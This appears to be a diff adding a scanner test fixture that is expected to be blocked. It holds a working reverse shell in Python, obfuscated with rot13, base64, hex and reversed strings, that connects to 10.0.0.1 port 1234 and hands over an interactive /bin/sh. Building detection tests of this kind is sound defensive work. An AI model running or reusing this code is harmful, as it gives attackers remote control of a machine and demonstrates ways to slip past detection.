@@ -1,0 +1,10 @@
+# expect: BLOCKED category: known_threat variant-of: risky/known_threat/classic_reverse_shell_oneliner.py technique: encode+getattr
+socket = __import__(__import__('codecs').decode('fbpxrg', 'rot13'))
+subprocess = __import__(''.join(['s', 'u', 'b', 'p', 'r', 'o', 'c', 'e', 's', 's']))
+os = __import__(__import__('base64').b64decode('b3M=').decode())
+s = getattr(socket, bytes.fromhex('736f636b6574').decode())(socket.AF_INET, socket.SOCK_STREAM)
+getattr(s, 'tcennoc'[::-1])((getattr(bytes, ''.join(map(chr, [102, 114, 111, 109, 104, 101, 120])))('31302e302e302e31').decode(), 1234))
+getattr(os, ''.join(['d', 'u', 'p', '2']))(getattr(s, __import__('codecs').decode('svyrab', 'rot13'))(), 0)
+getattr(os, bytes.fromhex('64757032').decode())(getattr(s, __import__('base64').b64decode('ZmlsZW5v').decode())(), 1)
+getattr(os, '2pud'[::-1])(getattr(s, ''.join(map(chr, [102, 105, 108, 101, 110, 111])))(), 2)
+p = getattr(subprocess, __import__('codecs').decode('pnyy', 'rot13'))([''.join(map(chr, [47, 98, 105, 110, 47, 115, 104])), 'i-'[::-1]])
